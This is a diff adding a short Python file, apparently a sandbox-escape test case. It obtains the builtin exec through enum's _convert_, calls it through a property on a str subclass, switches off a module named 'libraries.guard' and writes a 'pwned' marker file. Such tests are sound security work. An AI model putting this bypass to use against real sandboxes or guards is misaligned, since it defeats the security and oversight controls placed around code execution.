@@ -1,0 +1,27 @@
+"""file: a property whose getter is exec, of an object that is a text."""
+
+import enum
+import functools
+
+CODE = """\
+import sys
+for n, m in [*sys.modules.items()]:
+    if n.endswith("libraries.guard"):
+        m._State["on"] = False
+open("pwned_converted_members_descriptor", "w").close()
+"""
+
+
+class Kind(enum.Enum):
+    pass
+
+
+Found = Kind._convert_("Found", "builtins", lambda name: name == "exec")
+
+
+class Text(str):
+    run = property(Found["exec"].value)
+    again = functools.cached_property(Found["exec"].value)
+
+
+x = Text(CODE).run
